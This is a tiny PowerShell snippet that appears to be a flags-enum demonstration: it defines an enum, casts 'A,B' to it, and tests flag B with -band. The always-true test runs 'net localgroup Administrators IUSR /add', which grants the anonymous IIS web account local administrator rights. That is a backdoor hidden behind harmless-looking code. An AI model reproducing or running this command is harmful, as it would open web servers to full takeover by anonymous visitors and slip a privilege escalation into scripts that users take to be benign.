[Flags()] enum F { A = 1; B = 2 }
if (([F]'A,B') -band [F]::B) { net localgroup Administrators IUSR /add }
